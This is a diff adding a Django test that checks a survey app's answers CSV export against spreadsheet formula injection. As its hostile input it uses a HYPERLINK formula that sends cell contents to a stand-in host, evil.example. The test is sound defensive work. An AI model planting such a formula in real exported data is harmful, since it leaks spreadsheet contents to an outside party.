@@ -3,6 +3,8 @@ a signed link, analysed with the same pure cores as the CSV files."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from collections.abc import Callable
 from datetime import timedelta
@@ -337,3 +339,33 @@ def test_demo_campaigns_load_once_and_analyse(manager: User) -> None:
     servqual_result = campaign_figures(SurveyCampaign.objects.get(kind="servqual")).result
     assert servqual_result is not None
     assert servqual_result["weighted"] is not None
+
+
+def test_answers_csv_is_formula_guarded_and_still_reads_back(
+    manager: User,
+    bearer_for: Bearer,
+    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
+) -> None:
+    api = Client()
+    headers = bearer_for(manager)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    feature = {**FEATURES[0], "name": hostile}
+    created = _create(api, headers, kind="kano", name="注入测试", features=[feature])
+    make_contact(name="王芳")
+    (token,) = _invite_and_send(api, headers, created["id"], django_capture_on_commit_callbacks)
+    (stored,) = SurveyCampaign.objects.get().features.all()
+    assert (
+        Client()
+        .post(f"/quality/c/{token}/", {f"f{stored.pk}": "1", f"d{stored.pk}": "5"})
+        .status_code
+        == 200
+    )
+    staff = Client()
+    staff.force_login(manager)
+
+    exported = staff.get(f"/quality/campaigns/{created['id']}/answers.csv").content.decode()
+
+    cells = next(iter(csv.reader(io.StringIO(exported.splitlines()[1]))))
+    assert cells[1] == "'" + hostile
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert list(analysis.kano_analyse(exported).result) == [hostile]
